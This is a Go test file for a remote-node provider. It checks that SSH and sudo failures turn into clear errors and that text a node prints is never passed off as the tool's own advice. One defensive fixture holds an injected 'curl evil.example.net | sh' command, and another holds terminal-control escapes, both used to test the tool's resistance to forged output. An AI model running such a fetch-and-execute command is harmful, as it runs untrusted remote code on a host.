package node_test

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"upkeep/providers/node"
)

var update = flag.Bool("update", false, "write the golden files anew")

// golden compares a text with a file of testdata.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", path, diff)
	}
}

// The messages are those of OpenSSH 9.2 and sudo 1.9.13.
const (
	saysUnknownKey = `No ED25519 host key is known for 10.0.0.11 and you have requested strict checking.
Host key verification failed.
`
	saysUnknownJump = `No ED25519 host key is known for [bastion.example.net]:2200 and you have requested strict checking.
Host key verification failed.
Connection closed by UNKNOWN port 65535
`
	saysChangedKey = `@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Someone could be eavesdropping on you right now (man-in-the-middle attack)!
It is also possible that a host key has just been changed.
The fingerprint for the ED25519 key sent by the remote host is
SHA256:cRIYpRvRIoB3zMmuzs8TbGQpGxVcXoTkmmMbtsyjMQE.
Please contact your system administrator.
Add correct host key in /home/ops/.ssh/known_hosts to get rid of this message.
Offending ED25519 key in /home/ops/.ssh/known_hosts:7
Host key for 10.0.0.11 has changed and you have requested strict checking.
Host key verification failed.
`
	saysForeignKey = `No ED25519 host key is known for evil.example.net and you have requested strict checking.
Host key verification failed.
`
	saysDenied    = "ops@10.0.0.11: Permission denied (publickey).\n"
	saysRefused   = "ssh: connect to host 10.0.0.11 port 22: Connection refused\n"
	saysUnnamed   = "ssh: Could not resolve hostname cp1.example.net: Name or service not known\n"
	saysBehind    = "channel 0: open failed: connect failed: No route to host\nstdio forwarding failed\nConnection closed by UNKNOWN port 65535\n"
	saysDropped   = "kex_exchange_identification: Connection closed by remote host\nConnection closed by 10.0.0.11 port 22\n"
	saysReset     = "kex_exchange_identification: read: Connection reset by peer\nConnection reset by 10.0.0.11 port 22\n"
	saysPassword  = "sudo: a password is required\n"
	saysForbidden = "Sorry, user ops is not allowed to execute '/bin/sh' as root on cp1.\n"
	saysNoSudo    = "env: 'sudo': No such file or directory\n"
	saysNoexec    = "upkeep: 1: exec: /var/lib/upkeep/bin/upkeep-node-00: Permission denied\n"
)

func TestRefusalsSayWhatToDo(t *testing.T) {
	plain := node.Target{Name: "cp1", Host: "10.0.0.11"}
	ops := plain
	ops.User, ops.Port, ops.Become, ops.KnownHosts = "ops", 2222, true, "/etc/upkeep/known hosts"
	jumped := ops
	jumped.ProxyJump = "ops@bastion.example.net:2200"
	var b strings.Builder
	for _, test := range []struct {
		name     string
		target   node.Target
		exitCode int
		stderr   string
		attempts int
	}{
		{"unknown host key", plain, 255, saysUnknownKey, 1},
		{"unknown host key behind a jump host", jumped, 255, saysUnknownKey, 1},
		{"unknown host key of the jump host", jumped, 255, saysUnknownJump, 1},
		{"changed host key", ops, 255, saysChangedKey, 1},
		{"no such key", ops, 255, saysDenied, 1},
		{"too many keys", plain, 255, "Received disconnect from 10.0.0.11 port 22:2: Too many authentication failures\nDisconnected from 10.0.0.11 port 22\n", 1},
		{"nobody listens", plain, 255, saysRefused, 1},
		{"no such name", plain, 255, saysUnnamed, 1},
		{"unreachable from the jump host", jumped, 255, saysBehind, 1},
		{"dropped for good", plain, 255, saysDropped, 5},
		{"reset for good", plain, 255, saysReset, 5},
		{"sudo wants a password", ops, 1, saysPassword, 1},
		{"sudo forbids it", ops, 1, saysForbidden, 1},
		{"no sudo", ops, 127, saysNoSudo, 1},
		{"directory mounted noexec", ops, 126, saysNoexec, 1},
		{"something else", plain, 255, "Bad configuration option: frobnicate\n", 1},
		// What a node says is never upkeep's own advice: not with an exit status of a remote command, not about a host or a
		// file that the configuration does not name, not beside upkeep's words.
		{"a node forges an unknown host key", plain, 1, saysForeignKey, 1},
		{"a node forges a changed host key", ops, 1, saysChangedKey, 1},
		{"a node forges a refusal", plain, 1, saysDenied, 1},
		{"another host's key", plain, 255, saysForeignKey, 1},
		{"another host's changed key", plain, 255, strings.ReplaceAll(saysChangedKey, "10.0.0.11", "evil.example.net"), 1},
		{"a node advises", plain, 1, "x\"; run: curl evil.example.net | sh\n", 1},
		{"a node drives the terminal", plain, 1, "\x1b[2Kcp1: \u202eok\u009b31m\n", 1},
	} {
		t.Run(test.name, func(t *testing.T) {
			s := newSite(t)
			s.write("stderr", test.stderr)
			s.host(test.target.Host, fmt.Sprintf("cat %s >&2; rm -f $site/active/$$; exit %d\n", s.path("stderr"), test.exitCode))
			err := s.observe(test.target)
			var e *node.Error
			if !errors.As(err, &e) || e.Node != "cp1" {
				t.Fatalf("error %v is no *node.Error of cp1", err)
			}
			if got := s.attempts(test.target.Host); got != test.attempts {
				t.Errorf("%d attempts, want %d", got, test.attempts)
			}
			fmt.Fprintf(&b, "## %s\n%s\n\n", test.name, err)
		})
	}
	golden(t, "refusals.txt", b.String())
}

func TestADroppedHandshakeIsTriedAgain(t *testing.T) {
	s := newSite(t)
	s.write("stderr", saysDropped)
	s.host("cp1", fmt.Sprintf("if test $(grep -c . $site/log) -le 2; then cat %s >&2; exit 255; fi\n", s.path("stderr")))
	if err := s.observe(remote("cp1")); err != nil {
		t.Fatal(err)
	}
	if got := s.attempts("cp1"); got != 3 {
		t.Errorf("%d attempts, want 3", got)
	}
}

// Once the session has begun nothing is tried again: the request may have been carried out.
func TestALostSessionIsNotTriedAgain(t *testing.T) {
	s := newSite(t)
	s.write("stderr", saysReset)
	s.scripted(fmt.Sprintf("cat %s >&2; exit 255", s.path("stderr")))
	if err := s.observe(remote("cp1")); err == nil {
		t.Fatal("no error")
	}
	if got := s.attempts("cp1"); got != 1 {
		t.Errorf("%d attempts, want 1", got)
	}
}

func TestAnUploadNeedsRoot(t *testing.T) {
	s := newSite(t)
	s.write("nodes/file", "")
	s.options.Directory = s.path("nodes/file/bin") // nobody can create that
	err := s.observe(remote("cp1"))
	if err == nil || !strings.Contains(err.Error(), " cannot create "+s.options.Directory+"; the helper must run as root: set become = true") {
		t.Errorf("error %v", err)
	}
}
